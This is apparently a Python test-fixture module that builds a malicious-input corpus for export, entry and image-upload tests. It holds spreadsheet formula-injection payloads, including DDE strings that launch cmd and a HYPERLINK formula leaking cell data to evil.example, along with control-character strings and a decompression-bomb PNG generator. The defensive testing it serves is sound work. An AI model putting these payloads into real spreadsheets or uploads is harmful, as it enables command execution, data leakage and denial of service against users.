"""A small malicious-input corpus, generated here (no data files): spreadsheet formulas, control characters,
and harmless text that must come through unchanged. Shared by the export, entry and image tests."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PAYLOADS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "1+1",
)


def formula_cells() -> list[str]:
    """Every formula prefix in front of every payload (30 values), plus classic one-liners."""
    cells = [prefix + payload for prefix in FORMULA_PREFIXES for payload in _PAYLOADS]
    return [*cells, "=1+1", "\t=1+1", "\r\n=1+1", "@SUM(A1:A9)"]


# Text a spreadsheet or an XML writer chokes on (openpyxl refuses C0 controls in a cell).
CONTROL_TEXT = ["Bell\x07Name", "Esc\x1b[31mRed", "Nul\x00Byte", "Form\x0cFeed"]

# Legitimate data that must pass entry checks and come out of every export unchanged.
HARMLESS = ["O'Brien", "Zoë Müller", "José-María", "Anne-Marie", "<b>bold</b> & co", "100% (Sales)", "Ng"]


def bomb_png(path: Path, width: int = 20_000, height: int = 20_000) -> Path:
    """A valid grayscale PNG of width x height black pixels, about 0.4 MB on disk for 20000 x 20000 (one
    row is compressed once and repeated), whose decoding would allocate width x height x 3 bytes as RGB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte 0 + one byte per pixel
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b""))
    return path


def heic_file(path: Path, major: bytes = b"heic") -> Path:
    """The start of an HEIC photo as an iPhone writes it: an ISO-BMFF `ftyp` box with the `heic` brand
    (then a stub `meta` box); no decoder needed to recognise it. major=b"mif1": as some Android phones
    write it (the container brand first, which Pillow's AVIF plugin also claims)."""
    ftyp = b"ftyp" + major + struct.pack(">I", 0) + b"mif1heic"
    meta = b"meta" + b"\x00" * 24
    path.write_bytes(struct.pack(">I", 4 + len(ftyp)) + ftyp + struct.pack(">I", 4 + len(meta)) + meta)
    return path
